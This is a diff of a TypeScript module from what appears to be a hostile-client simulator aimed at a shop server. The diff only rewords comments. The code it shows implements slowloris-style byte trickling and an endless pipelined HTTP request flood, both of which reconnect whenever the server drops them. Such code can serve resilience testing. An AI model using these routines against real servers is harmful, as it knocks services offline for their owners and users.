@@ -1,7 +1,7 @@
 import { connect, type Socket } from 'node:net'
 import type { Target } from './hostile-attack.ts'
 
-/** A pause before a connection that was closed is made anew: a client that is turned away at once would only keep itself busy. */
+/** The pause before a closed connection is reopened. Without it, a rejected client would only keep itself busy. */
 const AGAIN_AFTER_MS = 100
 
 type Where = Pick<Target, 'url' | 'address'>
@@ -11,7 +11,7 @@ export function socketTo({ url, address }: Where): Socket {
   return connect({ host: hostname, port: Number(port), localAddress: address }).on('error', () => {})
 }
 
-/** Sends the beginning, and then a byte a second; begins anew whenever the shop closes the connection. */
+/** Sends the beginning, and then a byte a second. Reconnects when the shop closes the connection. */
 export function trickle(where: Where, beginning: string, byte: string): void {
   const socket = socketTo(where).resume()
   socket.write(beginning)
@@ -22,7 +22,7 @@ export function trickle(where: Where, beginning: string, byte: string): void {
   })
 }
 
-/** Keeps so many requests open on one connection, for as long as the shop answers; begins anew when it does not. */
+/** Keeps this many requests open on one connection while the shop answers. Reconnects when it stops. */
 export function askForEver(
   where: Where,
   requestOf: (n: number) => string,
@@ -32,7 +32,7 @@ export function askForEver(
   const socket = socketTo(where)
   const ask = (count: number) => socket.write(Array.from({ length: count }, () => requestOf(n++)).join(''))
   socket.once('connect', () => ask(atOnce))
-  // Each answer has one status line; one that is cut in two by chunks is missed, which only makes the client slower.
+  // Each answer has one status line. One that is split between chunks is missed, which only slows the client down.
   socket.on('data', (chunk) => {
     const answers = chunk.toString('latin1').split('HTTP/1.1 ').length - 1
     if (answers > 0) ask(answers)
